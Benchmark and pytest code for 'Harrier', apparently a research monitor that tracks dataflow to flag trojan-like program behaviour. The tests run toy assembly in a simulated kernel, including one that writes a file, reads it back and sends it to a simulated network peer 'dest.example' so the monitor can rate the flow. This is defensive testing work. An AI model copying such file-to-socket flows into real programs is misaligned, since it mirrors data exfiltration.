        lookups = hits + registry.total("blockcache_misses_total")
        hit_rates[name] = hits / lookups if lookups else None
    # every config retired the same guest work — the overhead is the
    # monitor (and the execution engine), never a different execution
    assert len(set(instructions.values())) == 1, instructions
    # A warm verdict-cache hit retires nothing: the report is replayed
    # from the content-addressed store, not recomputed.
    instructions["warm-cache"] = 0.0
    hit_rates["warm-cache"] = None
    native = timings["native"]
    rows = [
        (
            name,
            f"{seconds * 1000:.2f} ms",
            f"{seconds / native:.2f}x",
            f"{instructions[name]:,.0f}",
            (
                f"{hit_rates[name]:.1%}"
                if hit_rates[name] is not None else "-"
            ),
        )
        for name, seconds in timings.items()
    ]
    text = render_table(
        "Section 9: monitor overhead relative to native execution",
        ("configuration", "mean time", "slowdown vs native",
         "instructions (registry)", "block-cache hit rate"),
        rows,
    )
    write_result("performance_overhead.txt", text)
    write_result(
        "BENCH_performance.json",
        json.dumps(
            {
                "workload": "/bin/perf (bench_performance.WORKLOAD_SOURCE)",
                "reps": 3,
                "configs": {
                    name: {
                        "mean_ms": timings[name] * 1000,
                        "slowdown_vs_native": timings[name] / native,
                        "instructions": instructions[name],
                        "block_cache_hit_rate": hit_rates[name],
                    }
                    for name in timings
                },
            },
            indent=2,
        ) + "\n",
    )
    print("\n" + text)
    # the paper's shape: full monitoring is the slowest, and dataflow
    # tracking is the dominant cost
    assert timings["harrier-full"] > timings["native"]
    assert timings["harrier-full"] > timings["harrier-no-dataflow"]
    # a warm verdict-cache hit beats even the unmonitored native run:
    # nothing executes (the 50x gate lives in benchmarks.perf_smoke)
    assert timings["warm-cache"] < timings["native"], timings
    # the code cache pays for itself (generous noise margin)
    assert timings["harrier-full"] < (
        timings["harrier-full-interp"] * 1.10
    ), timings
    # cached configs actually exercised the cache, interp ones never did
    assert hit_rates["harrier-full"] is not None
    assert hit_rates["harrier-full"] > 0.9, hit_rates
    assert hit_rates["harrier-full-interp"] is None
    # the zero-taint fast path pays for itself (generous noise margin;
    # the real speedup gate lives in benchmarks.perf_smoke)
    assert timings["harrier-fastpath"] < (
        timings["harrier-fastpath-off"] * 1.10
    ), timings


def bench_profiler_breakdown(benchmark):
    """Live §8/§9 stage attribution from the telemetry profiler."""

    def run():
        telemetry = Telemetry.enabled(profile=True)
        run_workload("harrier-full", telemetry=telemetry)
        return telemetry.profiler

    profiler = benchmark.pedantic(run, rounds=1, iterations=1)
    breakdown = profiler.breakdown()
    print("\n" + profiler.render("Section 9 (live): stage attribution"))
    write_result(
        "performance_profile.txt",
        profiler.render("Section 9 (live): stage attribution") + "\n",
    )
    assert breakdown[STAGE_NATIVE] > 0
    assert breakdown[STAGE_DATAFLOW] > 0
    assert breakdown[STAGE_BBFREQ] > 0
    assert breakdown[STAGE_ANALYSIS] >= 0
    # the paper's bottleneck claim: dataflow dominates bbfreq counting
    assert breakdown[STAGE_DATAFLOW] > breakdown[STAGE_BBFREQ]
    slowdowns = profiler.slowdowns()
    assert slowdowns[STAGE_ANALYSIS] >= slowdowns[STAGE_DATAFLOW] >= (
        slowdowns[STAGE_BBFREQ]
    ) >= 1.0


def bench_nullsink_overhead(benchmark):
    """Disabled telemetry must not slow the monitored hot path.

    The NullSink wiring caches ``None`` handles in the kernel and
    Harrier, so a run with telemetry omitted and a run with an enabled
    registry differ only by the instrument updates; the disabled path
    must not measurably exceed the enabled one.
    """
    import time

    def measure():
        reps = 3
        start = time.perf_counter()
        for _ in range(reps):
            run_workload("harrier-full")
        disabled = (time.perf_counter() - start) / reps
        start = time.perf_counter()
        for _ in range(reps):
            run_workload("harrier-full", telemetry=Telemetry.enabled())
        enabled = (time.perf_counter() - start) / reps
        return disabled, enabled

    disabled, enabled = benchmark.pedantic(measure, rounds=1, iterations=1)
    print(
        f"\nnullsink: disabled={disabled * 1000:.2f} ms "
        f"enabled={enabled * 1000:.2f} ms "
        f"ratio={disabled / enabled:.2f}"
    )
    # generous noise margin: the disabled path does strictly less work
    assert disabled < enabled * 2.0


def bench_fleet_sweep(benchmark):
    """The 62-workload sweep, serial vs sharded across 4 workers.

    The load-bearing assertion is determinism: the sharded fleet's
    per-run report dicts must be bit-identical to the serial sweep's.
    Scaling is reported (and written to the results file) but only
    *gated* in ``benchmarks.perf_smoke``, where it is conditioned on the
    host actually having cores to scale on.
    """
    import os

    from repro.fleet import run_fleet, workload_refs

    refs = workload_refs()

    def measure():
        serial = run_fleet(refs, workers=1)
        sharded = run_fleet(refs, workers=4)
        return serial, sharded

    serial, sharded = benchmark.pedantic(measure, rounds=1, iterations=1)
    assert not serial.failures, [r.name for r in serial.failures]
    assert not sharded.failures, [r.name for r in sharded.failures]
    assert json.dumps(serial.reports, sort_keys=True, default=str) == (
        json.dumps(sharded.reports, sort_keys=True, default=str)
    ), "sharded fleet reports diverged from the serial sweep"
    speedup = (
        serial.wall_seconds / sharded.wall_seconds
        if sharded.wall_seconds else float("inf")
    )
    text = (
        f"fleet sweep: {len(refs)} workloads, serial "
        f"{serial.wall_seconds * 1000:.0f} ms vs 4 workers "
        f"{sharded.wall_seconds * 1000:.0f} ms "
        f"({speedup:.2f}x on {os.cpu_count()} cpu(s))"
    )
    print("\n" + text)
    write_result("BENCH_fleet.json", json.dumps(
        {
            "workloads": len(refs),
            "serial_seconds": serial.wall_seconds,
            "sharded_seconds": sharded.wall_seconds,
            "workers": 4,
            "speedup": speedup,
            "cpus": os.cpu_count(),
        },
        indent=2,
    ) + "\n")
