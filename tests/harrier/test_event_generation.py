"""Event-generation detail tests: content sniffing on transfers, memory
events, origin registries, dataflow-off origin semantics."""

from repro.core.hth import HTH
from repro.harrier.config import HarrierConfig
from repro.harrier.events import (
    DataTransferEvent,
    MemoryEvent,
    ResourceAccessEvent,
)
from repro.isa import assemble
from repro.kernel.network import ConversationPeer, SinkPeer
from repro.taint import DataSource


def run(source, path="/bin/t", setup=None, config=None, argv=None):
    hth = HTH(harrier_config=config)
    if setup:
        setup(hth)
    report = hth.run(assemble(path, source), argv=argv)
    return report, hth


class TestContentOnTransfers:
    def test_write_event_carries_content_type(self):
        source = r"""
main:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov eax, 0
    ret
.data
path: .asciz "/tmp/x"
payload: .asciz "#!fake script"
"""
        report, hth = run(source)
        writes = [e for e in report.events
                  if isinstance(e, DataTransferEvent)
                  and e.direction == "write"]
        assert writes[0].content_type == "script"

    def test_read_event_carries_content_type(self):
        source = r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 16
    call read
    mov eax, 0
    ret
.data
path: .asciz "/tmp/x"
buf: .space 16
"""

        def setup(hth):
            hth.fs.create_file("/tmp/x", b"\x7fEXE-payload")

        report, hth = run(source, setup=setup)
        reads = [e for e in report.events
                 if isinstance(e, DataTransferEvent)
                 and e.direction == "read"]
        assert reads[0].content_type == "executable"


class TestMemoryEvents:
    SOURCE = r"""
main:
    mov ebx, 100
    call malloc
    mov ebx, 50
    call malloc
    mov eax, 0
    ret
"""

    def test_deltas_and_totals(self):
        report, hth = run(self.SOURCE)
        events = [e for e in report.events if isinstance(e, MemoryEvent)]
        assert [e.delta for e in events] == [100, 50]
        assert [e.total_allocated for e in events] == [100, 150]

    def test_brk_shrink_not_reported(self):
        source = r"""
main:
    mov ebx, 0x400100
    mov eax, 45
    int 0x80
    mov ebx, 0x400050       ; shrink: no event
    mov eax, 45
    int 0x80
    mov eax, 0
    ret
"""
        report, hth = run(source)
        events = [e for e in report.events if isinstance(e, MemoryEvent)]
        assert len(events) == 1
        assert events[0].delta == 0x100


class TestDataflowOffOrigins:
    def test_origins_are_unknown_not_empty(self):
        source = r"""
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
"""
        report, hth = run(
            source, config=HarrierConfig(track_dataflow=False)
        )
        execs = [e for e in report.events
                 if isinstance(e, ResourceAccessEvent)
                 and e.call_name == "SYS_execve"]
        assert execs[0].origin.is_only(DataSource.UNKNOWN)


class TestOriginRegistry:
    def test_read_back_of_own_write_keeps_name_origin(self):
        # Write to a hardcoded file, reopen and read it, then send the
        # data to a user socket: the *source file's* name origin must
        # still be known (hardcoded) at the final write.
        source = r"""
main:
    mov ebp, esp
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 32
    call read
    mov edi, eax
    mov ebx, esi
    call close
    ; destination: host+port from argv (user)
    load eax, [ebp+2]
    load ebx, [eax+1]
    call gethostbyname
    mov ecx, eax
    load eax, [ebp+2]
    load ebx, [eax+2]
    call atoi
    mov edx, eax
    call socket
    mov ebx, eax
    call connect_addr
    mov ecx, buf
    mov edx, edi
    call write
    mov eax, 0
    ret
.data
path: .asciz "/tmp/cache"
payload: .asciz "cached"
buf: .space 32
"""

        def setup(hth):
            hth.network.add_peer("dest.example", 7000,
                                 lambda: SinkPeer("dest"))

        report, hth = run(
            source, setup=setup,
            argv=["/bin/t", "dest.example", "7000"],
        )
        socket_writes = [
            e for e in report.events
            if isinstance(e, DataTransferEvent)
            and e.direction == "write"
            and e.resource.kind.value == "SOCKET"
        ]
        assert socket_writes
        (pairs,) = [e.source_origins for e in socket_writes]
        assert pairs
        tag, origin = pairs[0]
        assert tag.name == "/tmp/cache"
        assert origin.has_source(DataSource.BINARY)
        # hardcoded source name + user destination -> Low (not High)
        from repro.secpert.warnings import Severity

        flows = [w for w in report.warnings
                 if w.rule == "check_resource_flow"]
        assert flows and all(w.severity is Severity.LOW for w in flows)
